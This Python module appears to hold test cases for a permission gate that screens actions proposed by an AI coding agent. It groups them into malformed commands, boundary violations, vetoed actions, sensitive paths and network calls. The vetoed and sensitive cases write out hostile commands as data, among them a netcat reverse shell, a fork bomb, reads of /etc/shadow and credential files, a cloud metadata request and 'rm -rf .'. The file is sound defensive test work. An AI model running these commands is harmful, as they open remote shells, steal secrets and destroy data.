"""An action for each built-in rule that is code: what the rule decides about it, and why, the gate
is asked itself (`builtin`). Rules of programs that are tables speak for themselves."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from .testing import Link, shell, tool


@dataclass(frozen=True, slots=True)
class Asked:
    """An action, and the rule that speaks about it. `around` says in words what else has to be so;
    `request`, `context` and `files` say the same to the gate."""

    rule: str
    action: Mapping[str, Any]
    around: str = ""
    request: Mapping[str, Any] = field(default_factory=dict)
    context: Mapping[str, Any] = field(default_factory=dict)
    files: Mapping[str, str | Link] = field(default_factory=dict)


def _read(path: str) -> dict[str, Any]:
    return {"kind": "read_file", "path": path}


def _write(path: str) -> dict[str, Any]:
    return {"kind": "write_file", "path": path, "content": "x"}


def _send(method: str, target: str) -> dict[str, Any]:
    return {"kind": "network", "method": method, "target": target}


_PUSH: Mapping[str, Any] = {"kind": "git_push"}
_FINISH: Mapping[str, Any] = {"kind": "finish", "summary": "Done."}
_ODD = "l\u200bs"
_MANY = {f"/tree/link{number}": Link("src") for number in range(600)}
INTAKE = (
    Asked("run missing", tool("ls"), "it is proposed outside any run", {"run": ""}),
    Asked("role unknown", tool("ls"), "the role is `wizard`", {"role": "wizard"}),
    Asked("schema", {**tool("ls"), "disable_sandbox": True}),
)
UNREAD = (
    Asked("assignment", shell("A=$(date) make")),
    Asked("awk code", tool("awk", "{ system($1) }", "a.txt")),
    Asked("awk option", tool("awk", "-f", "code.awk", "a.txt")),
    Asked("bash -c", tool("bash", "-c", "ls")),
    Asked("bash option", tool("bash", "-l", "run.sh")),
    Asked("bash script", tool("bash", "run.sh")),
    Asked("bash stdin", tool("bash")),
    Asked("cd", shell("cd - && ls")),
    Asked("construct", shell("select x in a b; do ls; done")),
    Asked("declaration", shell("declare -i x=1")),
    Asked("directory", shell("cd a || cd b; ls")),
    Asked("env option", tool("env", "-S", "ls -l")),
    Asked("eval", shell("eval ls")),
    Asked("expansion", shell("ls $(cat list)")),
    Asked("function", shell("f() { ls; }; f")),
    Asked("here-document", shell("cat <<END\n$(date)\nEND")),
    Asked("here-string", shell("cat <<< $(date)")),
    Asked("hidden characters", shell("ls \u202ea")),
    Asked("node stdin", tool("node")),
    Asked("not readable", shell("ls 'a")),
    Asked("odd name", tool(_ODD), "", {}, {"allowed": frozenset({_ODD})}),
    Asked("perl stdin", tool("perl", "-")),
    Asked("program", shell("a*/run --version")),
    Asked("python -c", tool("python3", "-c", "import os; os.system('ls')")),
    Asked("python stdin", tool("python3")),
    Asked("redirection", shell("ls > $OUT")),
    Asked("sed -f", tool("sed", "-f", "code.sed", "a.txt")),
    Asked("sed script", tool("sed", "1e ls", "a.txt")),
    Asked("set", shell("set")),
    Asked("tar bundle", tool("tar", "v" * 40, "a.tar", "src")),
    Asked("tar directory", shell("tar -C q* -cf a.tar src")),
    Asked("test", shell("[[ a -eq b[$(ls)] ]]")),
    Asked("too deep", tool(*["nice"] * 9, "ls")),
    Asked("too large", shell("ls $((1))" + " ; ls" * 2_100)),
    Asked("too long", shell("ls " + "a" * 70_000)),
    Asked("too many paths", shell("cat link*/*"), "600 links lie there", files=_MANY),
    Asked("wait -p", shell("wait -p x")),
    Asked("xargs", shell("ls | xargs rm")),
)
BOUNDARY = (
    Asked("address", _read("https://example.org/notes.txt")),
    Asked("cd outside", shell("cd /srv && ls")),
    Asked("cwd", tool("ls", cwd="../other")),
    Asked("glob", {"kind": "glob", "pattern": "../*"}),
    Asked("home", _read("~/notes.txt")),
    Asked("outside", _read("../other/notes.txt")),
    Asked("patch", {"kind": "apply_patch", "patch": "no patch"}),
    Asked(
        "program inside", tool("make"), "`make` is found in the worktree",
        context={"which": {"make": "/tree/make"}.get},
    ),
    Asked(
        "program not allowed", tool("make"), "the workspace does not list it",
        context={"allowed": frozenset({"ls"})},
    ),
    Asked("program path", tool("./run.sh")),
    Asked("reads outside", tool("cat", "/srv/notes.txt")),
    Asked("remote", {**_PUSH, "remote": "backup"}, "only `origin` was recorded"),
    Asked(
        "unreadable", _read("loop"), "it is a link to itself", files={"/tree/loop": Link("loop")}
    ),
    Asked("unreadable", tool("cat", "loop"), "it is a link to itself",
          files={"/tree/loop": Link("loop")}),
    Asked(
        "write paths", _write("docs/a.md"), "the task may change `src/**`",
        context={"write_paths": ("src/**",)},
    ),
    Asked("writes outside", tool("tee", "/srv/notes.txt")),
    Asked("writes outside", tool("tee", "/tmp/notes.txt")),
)  # fmt: skip
VETO = (
    Asked("chmod setuid", tool("chmod", "u+s", "run")),
    Asked("credential", tool("cat", "/srv/ann/.aws/credentials")),
    Asked("date -s", tool("date", "-s", "12:00")),
    Asked("docker host", tool("docker", "run", "--privileged", "image")),
    Asked("file address", tool("curl", "file:///etc/hosts")),
    Asked("fork bomb", shell(":(){ :|:& };:")),
    Asked("git directory", _write(".git/config")),
    Asked(
        "git push address", {**_PUSH, "remote": "https://example.org/x.git"},
        "no remote was recorded", context={"remotes": {}},
    ),
    Asked(
        "git push option", {**_PUSH, "remote": "--exec=x"},
        "no remote was recorded", context={"remotes": {}},
    ),
    Asked("git revision", {"kind": "git_show", "rev": "--output=x"}),
    Asked("hidden secret", shell("cat /etc/sh*")),
    Asked("hostname", tool("hostname", "box")),
    Asked("metadata", tool("curl", "http://169.254.169.254/")),
    Asked("network address", _send("GET", "example.org")),
    Asked("network own host", _send("GET", "https://localhost/")),
    Asked("network port", _send("GET", "https://example.org:8443/")),
    Asked("network private address", _send("GET", "https://10.0.0.1/")),
    Asked("network scheme", _send("GET", "ftp://example.org/")),
    Asked("network userinfo", _send("GET", "https://a@example.org/")),
    Asked("own settings", _write(".m31a/settings")),
    Asked("raw device", tool("cat", "/dev/sda")),
    Asked("reverse shell", tool("nc", "-e", "sh", "example.org", "99")),
    Asked("system secret", tool("cat", "/etc/shadow")),
    Asked("tar extract", tool("tar", "-xf", "a.tar", "-C", "~")),
    Asked("whole system", tool("grep", "-r", "password", "/")),
    Asked("worktree", shell("rm -rf .")),
)  # fmt: skip
_GUIDED = (
    ".bashrc",
    ".claude/settings.json",
    ".devcontainer/devcontainer.json",
    ".github",
    ".github/workflows/ci.yml",
    ".gitmodules",
    ".pre-commit-config.yaml",
    ".tool-versions",
    ".venv/bin/pytest",
    ".vscode/settings.json",
    "AGENTS.md",
    "authorized_keys",
    "sitecustomize.py",
    "uv.toml",
)
"""For each reason why such a file is looked at, one."""
PATHS = (
    Asked("address", tool("file", "https://example.org/a")),
    Asked("environment", shell("LD_PRELOAD=x.so ls")),
    Asked("environment", shell("X=1 make")),
    Asked(
        "git configuration", tool("git", "status"), "the repository sets `core.fsmonitor`",
        context={"repository_runs": ("core.fsmonitor",)},
    ),
    Asked("git directory", _read(".git/config")),
    *(Asked("guided file", _write(path)) for path in _GUIDED),
    Asked(
        "guarded_files_changed", _FINISH, "a command has changed `Makefile`",
        context={"changed_guarded": ("Makefile",)},
    ),
    Asked("secret", _read(".env")),
    Asked("secret", tool("cat", "id_rsa")),
    Asked("secret", tool("cat", "*.pem")),
    Asked("secret", _read("secrets/mail.txt")),
    Asked("secret", _write(".env")),
    Asked(
        "verification_inputs_changed", _FINISH, "the verification runs `make`, whose file changed",
        context={"changed_inputs": ("Makefile",)},
    ),
)  # fmt: skip
NETWORK = (
    Asked("network", _send("GET", "https://example.org/")),
    Asked("network bare address", _send("GET", "https://93.184.216.34/")),
    Asked("network dns", _send("DNS", "example.org")),
    Asked("network long label", _send("GET", f"https://{'a' * 41}.example.org/")),
    Asked("network method", _send("POST", "https://example.org/")),
    Asked("network plain http", _send("GET", "http://example.org/")),
    Asked("curl -X", tool("curl", "-X", "POST", "https://example.org/")),
    Asked("curl private host", tool("curl", "http://10.0.0.1/")),
    Asked("curl scheme", tool("curl", "ftp://example.org/")),
    Asked("rsync host", tool("rsync", "a", "host:b")),
    Asked("tar remote", tool("tar", "-cf", "host:a.tar", "src")),
)
AROUND = (
    Asked("default", _read("README.md")),
    Asked("capability", _write("a.txt"), "the role is `reviewer`", {"role": "reviewer"}),
    Asked(
        "mode autonomous", tool("rm", "a.txt"), "the mode is `autonomous`", {"mode": "autonomous"}
    ),
    Asked("mode plan", _write("a.txt"), "the mode is `plan`", {"mode": "plan"}),
    Asked("mode safe", _write("a.txt"), "the mode is `safe`", {"mode": "safe"}),
    Asked(
        "mode unattended", tool("git", "push"), "the mode is `unattended`", {"mode": "unattended"}
    ),
    Asked("no audit", _read("a.txt"), "nobody journals the verdict", context={"audit": None}),
    Asked("stage_error", _read("a.txt"), "a stage of the gate fails", context={"look": None}),
)
